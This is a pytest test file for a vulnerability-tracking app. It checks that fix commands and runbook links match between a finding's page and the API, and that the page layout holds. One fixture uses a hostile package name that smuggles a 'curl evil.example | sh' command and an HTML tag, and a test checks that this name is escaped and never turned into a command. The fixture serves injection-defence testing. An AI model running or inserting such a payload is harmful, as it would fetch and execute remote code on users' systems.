"""What to change to mend a finding, on its page, over the API and in a shell: the same words, safe to copy."""

from __future__ import annotations

import os
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest

from callboard.usecases.read_catalog import read_catalog
from callboard.usecases.sync import sync
from tests.contract.store.test_guidance import Located, annotated
from tests.support.browser import OpenPage
from tests.support.catalogs import MadeUpCatalog, component, group
from tests.web.conftest import Door, apart, enter, opened

SHOTS = os.environ.get("CALLBOARD_SHOTS")
RUNBOOK = "https://wiki.example/red/runbook"


@pytest.fixture(scope="module")
def board(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    """Three findings in packages of one component: one that is well named, one that is not, and one in Maven."""
    with opened(tmp_path_factory.mktemp("guidance") / "callboard.db", filled=False) as door:
        catalog, world = MadeUpCatalog(), Located(door.clock)
        catalog.put(annotated(group("red", members=["ana"]), RUNBOOK), component("shop", "red", projects=["p1"]))
        told = {"kind": "vulnerability", "version": "4.17.20", "fixed_version": "4.17.21", "projects": ("p1",)}
        world.add("good", note="/services/shop/package-lock.json", package="lodash", **told)
        world.add("evil", note="/a/package-lock.json", package="x'; curl evil.example | sh; '<b>", **told)
        world.add("maven", note="pom.xml", package="org.apache.logging.log4j:log4j-core", **told)
        apart(sync(door.store, world, clock=door.clock))
        apart(read_catalog(door.store, catalog, clock=door.clock))
        yield door


def test_page_and_api_tell_the_same(board: Door) -> None:
    """The command, the folder, what is left, and the runbook."""
    with board.bearer() as client:
        number = board.finding_id("good")
        guidance = client.get(f"/api/v1/findings/{number}").json()["guidance"]
        html = unescape(client.get(f"/findings/{number}").text).replace("<wbr>", "")
    (change,) = guidance["changes"]
    assert (change["where"], change["folder"], change["commands"]) == (
        "services/shop/package-lock.json", "services/shop", ["npm update lodash"],
    )  # fmt: skip
    for text in (change["say"], change["commands"][0], change["patch"].strip(), change["where"]):
        assert text in html
    assert guidance["runbooks"] == [{"component": "component:default/shop", "of": "group:default/red", "url": RUNBOOK}]
    assert f'<a href="{RUNBOOK}" target="_blank" rel="noopener noreferrer">Runbook of <bdi>red</bdi>' in html


def test_a_hostile_name_becomes_no_command(board: Door) -> None:
    """It is told as text, and nothing is there to copy."""
    with board.bearer() as client:
        number = board.finding_id("evil")
        (change,) = client.get(f"/api/v1/findings/{number}").json()["guidance"]["changes"]
        html = client.get(f"/findings/{number}").text
    assert (change["commands"], change["patch"], change["otherwise"]) == ([], "", "")
    assert "npm" not in html.partition("<h2>Fix</h2>")[2].partition("</section>")[0].replace("package-lock", "")
    assert "&lt;b&gt;" in html
    assert "<b>'" not in html


def test_it_looks_right(board: Door, open_page: OpenPage) -> None:
    """Long lines scroll in their box and not the page."""
    for scheme, width in (("light", 1280), ("dark", 360)):
        page = open_page(color_scheme=scheme, width=width)  # type: ignore[arg-type]
        enter(page, board)
        for name in ("good", "maven"):
            page.goto(f"{board.url}/findings/{board.finding_id(name)}")
            assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
            if SHOTS:
                page.screenshot(path=Path(SHOTS) / f"guidance-{name}-{scheme}-{width}.png", full_page=True)
